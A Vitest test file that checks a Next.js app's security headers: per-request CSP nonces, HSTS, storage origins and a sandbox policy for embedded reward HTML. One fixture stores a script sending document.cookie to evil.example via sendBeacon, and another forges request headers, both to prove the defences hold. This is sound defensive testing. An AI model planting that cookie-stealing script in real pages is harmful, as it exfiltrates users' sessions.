import { spawn } from 'node:child_process';
import { beforeAll, describe, expect, it } from 'vitest';
import { GET as embed } from '@/app/api/gamification/rewards/[id]/embed/route';
import { prisma } from '@/lib/server/db';
import {
  pageCsp,
  pageHeadersConfig,
  sandboxedHtmlCsp,
  STATIC_SECURITY_HEADERS,
  storageOrigins,
} from '@/lib/security/headers';
import nextConfig from '@/next.config.mjs';
import {
  applyPageHeaders,
  isPagePath,
  NONCE_SLOT,
  parseConfig,
  type PageHeadersConfig,
} from '../../scripts/page-headers.cjs';
import { call } from '../support/http';
import { createUser, createWorld } from '../support/factories';

// Security headers (decisions 62, 382): the page CSP with a per-request nonce from the request hook, HSTS only over
// https, and the embed reward's own sandbox policy (decision 64).
const directives = (csp: string) =>
  Object.fromEntries(
    csp.split(';').map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name!, values.join(' ')];
    }),
  );

type FakeReq = { url: string; headers: Record<string, string>; socket: { encrypted?: boolean } };

/** One request through the hook: the request Next then renders and the answer's headers. */
function throughHook(url: string, cfg: PageHeadersConfig, headers = {}, encrypted = false) {
  const req: FakeReq = { url, headers: { ...headers }, socket: { encrypted } };
  const out: Record<string, string> = {};
  applyPageHeaders(req, { setHeader: (k: string, v: string) => (out[k.toLowerCase()] = v) }, cfg);
  return { req: req.headers, res: out };
}

const baseEnv = {
  S3_REGION: 'x',
  S3_FORCE_PATH_STYLE: true,
  TRUST_PROXY: false,
} as Parameters<typeof pageHeadersConfig>[0];
const config = (env = baseEnv) => parseConfig(pageHeadersConfig(env, { nonceSlot: NONCE_SLOT, dev: false }))!;

describe('page headers from the request hook (scripts/page-headers.cjs)', () => {
  it('a fresh nonce per request, on the answer and on the request Next renders', () => {
    const cfg = config();
    const one = throughHook('/homepage?x=1', cfg);
    const two = throughHook('/homepage', cfg);
    const csp = one.res['content-security-policy']!;
    const d = directives(csp);
    const nonce = /'nonce-([^']+)'/.exec(d['script-src']!)![1]!;
    expect(nonce.length).toBeGreaterThanOrEqual(22);
    expect(two.res['content-security-policy']).not.toContain(nonce);
    expect(d['script-src']).toContain("'strict-dynamic'");
    expect(d['script-src']).not.toContain('unsafe-inline');
    expect(d['frame-ancestors']).toBe("'self'");
    expect(d['object-src']).toBe("'none'");
    expect(d['base-uri']).toBe("'self'");
    expect(d['frame-src']).toBe("'self' https:");
    // Next reads the policy (and so the nonce) from the request's headers; the layout reads the path
    expect(one.req['content-security-policy']).toBe(csp);
    expect(one.req['x-pathname']).toBe('/homepage');
    expect(one.req['x-search']).toBe('?x=1');
    expect(two.req['x-search']).toBe('');
    // a client navigation's `_rsc` is Next's, never part of the address the sign-in sends back to
    expect(throughHook('/favoritos?_rsc=1a2b3', cfg).req['x-search']).toBe('');
    expect(throughHook('/search?search=a%20b&_rsc=x&page=2', cfg).req['x-search']).toBe('?search=a+b&page=2');
  });

  it('pages only; what a client sends in these headers never reaches Next', () => {
    const cfg = config();
    const forged = { 'x-pathname': '/evil', 'content-security-policy': "script-src 'unsafe-inline'" };
    for (const url of ['/api/auth/me', '/_next/static/chunks/a.js', '/favicon.ico', '/seed/capa.svg']) {
      const { req, res } = throughHook(url, cfg, forged);
      expect(res).toEqual({});
      expect(req['x-pathname']).toBeUndefined();
      expect(req['content-security-policy']).toBeUndefined();
    }
    const page = throughHook('/curso/../homepage', cfg, forged);
    expect(page.req['x-pathname']).toBe('/homepage');
    expect(page.req['content-security-policy']).toBe(page.res['content-security-policy']);
    expect(isPagePath('/comunidade/t/c')).toBe(true);
    expect(isPagePath('/')).toBe(true);
  });

  it('HSTS only over https; X-Forwarded-Proto counts only behind a trusted proxy', () => {
    expect(throughHook('/', config(), {}, true).res['strict-transport-security']).toMatch(/max-age=\d+/);
    const proto = { 'x-forwarded-proto': 'https' };
    expect(throughHook('/', config(), proto).res['strict-transport-security']).toBeUndefined();
    const trusted = config({ ...baseEnv, TRUST_PROXY: true });
    expect(throughHook('/', trusted, proto).res['strict-transport-security']).toMatch(/max-age=\d+/);
    expect(throughHook('/', trusted).res['strict-transport-security']).toBeUndefined();
  });

  it('the preload hooks a real server: pages get the headers, the API does not, the peer too', async () => {
    const echo = `require('node:http').createServer((q, r) => r.end(JSON.stringify(q.headers)))
      .listen(0, '127.0.0.1', function () { console.log(this.address().port); });`;
    const child = spawn(process.execPath, ['--require', './scripts/peer-address.cjs', '-e', echo], {
      env: {
        NODE_ENV: 'test',
        PATH: process.env.PATH,
        PRACA_PEER_TOKEN: 'p'.repeat(64),
        PRACA_PAGE_HEADERS: pageHeadersConfig(baseEnv, { nonceSlot: NONCE_SLOT, dev: false }),
      },
    });
    try {
      const port = await new Promise<string>((ok) => child.stdout.once('data', (b) => ok(String(b).trim())));
      const page = await fetch(`http://127.0.0.1:${port}/homepage`, { headers: { 'x-pathname': '/x' } });
      const seen = (await page.json()) as Record<string, string>;
      expect(page.headers.get('content-security-policy')).toBe(seen['content-security-policy']);
      expect(seen['content-security-policy']).toMatch(/'nonce-[A-Za-z0-9+/=]{22,}'/);
      expect(seen['x-pathname']).toBe('/homepage');
      expect(seen['x-praca-peer']).toBe(`${'p'.repeat(64)} 127.0.0.1`);
      const api = await fetch(`http://127.0.0.1:${port}/api/health`, { headers: { 'x-pathname': '/x' } });
      expect(api.headers.get('content-security-policy')).toBeNull();
      expect(((await api.json()) as Record<string, string>)['x-pathname']).toBeUndefined();
    } finally {
      child.kill();
    }
  });

  it('refuses a configuration start.mjs would not write', () => {
    expect(parseConfig(undefined)).toBeNull();
    expect(parseConfig('{')).toBeNull();
    expect(parseConfig(JSON.stringify({ csp: "default-src 'self'" }))).toBeNull();
  });

  it('images and media: self, data:/blob: and the configured storage only', () => {
    const s3 = storageOrigins({
      STORAGE_DRIVER: 's3',
      S3_BUCKET: 'b',
      S3_PUBLIC_URL: 'https://cdn.example.com/files',
      S3_ENDPOINT: undefined,
      S3_REGION: 'sa-east-1',
      S3_FORCE_PATH_STYLE: true,
    });
    expect(s3).toEqual(['https://cdn.example.com', 'https://b.s3.sa-east-1.amazonaws.com']);
    const d = directives(pageCsp({ nonce: 'n', storage: s3 }));
    expect(d['img-src']).toBe(
      "'self' data: blob: https://cdn.example.com https://b.s3.sa-east-1.amazonaws.com",
    );
    expect(d['media-src']).toContain('https://cdn.example.com');
    expect(d['connect-src']).toContain('https://b.s3.sa-east-1.amazonaws.com');
    expect(storageOrigins({ S3_REGION: 'x', S3_FORCE_PATH_STYLE: true } as never)).toEqual([]);
  });
});

describe('embed reward frame', () => {
  let w: Awaited<ReturnType<typeof createWorld>>;
  let rewardId: string;
  beforeAll(async () => {
    w = await createWorld();
    const reward = await prisma.reward.create({
      data: {
        tenantId: w.a.id,
        name: 'Widget',
        rewardType: 'score',
        neededScore: 1,
        deliveryType: 'embed',
        embed: '<script>navigator.sendBeacon("https://evil.example", document.cookie)</script>',
      },
    });
    rewardId = reward.id;
    await prisma.rewardUnlock.create({ data: { tenantId: w.a.id, userId: w.studentA.id, rewardId } });
  });
  const get = (cookie: string) =>
    call(embed, 'GET', `/api/gamification/rewards/${rewardId}/embed`, {
      host: w.a.host,
      cookie,
      params: { id: rewardId },
    });

  it('is served as HTML with its own sandbox policy: no popups, no network, framed only by us', async () => {
    const res = await get(w.studentA.cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/html');
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toBe(sandboxedHtmlCsp());
    const d = directives(csp);
    expect(d.sandbox).toBe('allow-scripts allow-presentation');
    expect(csp).not.toContain('allow-popups');
    expect(csp).not.toContain('allow-same-origin');
    expect(d['connect-src']).toBe("'none'");
    expect(d['form-action']).toBe("'none'");
    expect(d['frame-ancestors']).toBe("'self'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('another member who did not unlock it gets 404; editors preview it', async () => {
    const other = await createUser(w.a, 'student');
    expect((await get(other.cookie)).status).toBe(404);
    expect((await get(w.adminA.cookie)).status).toBe(200);
  });
});

describe('static headers', () => {
  it('next.config.mjs gives every answer the wrapper’s static headers, with no feature Chromium does not know', async () => {
    const rules = await nextConfig.headers!();
    const all = rules.find((r) => r.source === '/:path*')!;
    expect(Object.fromEntries(all.headers.map((h) => [h.key, h.value]))).toEqual(STATIC_SECURITY_HEADERS);
    // `bluetooth` made Chromium log "Unrecognized feature" on every page (e2e/auth.spec.ts checks the console)
    expect(STATIC_SECURITY_HEADERS['Permissions-Policy']).not.toContain('bluetooth');
  });
});
